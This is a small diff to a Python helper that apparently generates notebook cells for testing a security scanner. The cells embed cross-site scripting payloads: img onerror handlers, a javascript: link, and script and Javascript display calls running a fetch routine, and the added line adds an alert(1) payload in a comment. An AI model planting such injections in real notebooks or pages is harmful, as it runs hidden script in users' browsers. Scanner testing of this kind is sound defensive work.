@@ -606,6 +606,7 @@ def instructor_script(s):
         f"It is exact. <img src=x onerror=\"{_FETCH}\"> [details](javascript:{_FETCH})")
     s.append(NB1, "predict-bytes", (
         "from IPython.display import HTML, Javascript, display\n"
+        "import threading  # `<img src=x onerror=alert(1)>` (the scan quotes this line in the notes)\n"
         f"display(HTML(\"<b>done</b><script>{_FETCH}</script>\"))\n"
         f"display(Javascript(\"{_FETCH}\"))\n"))
 
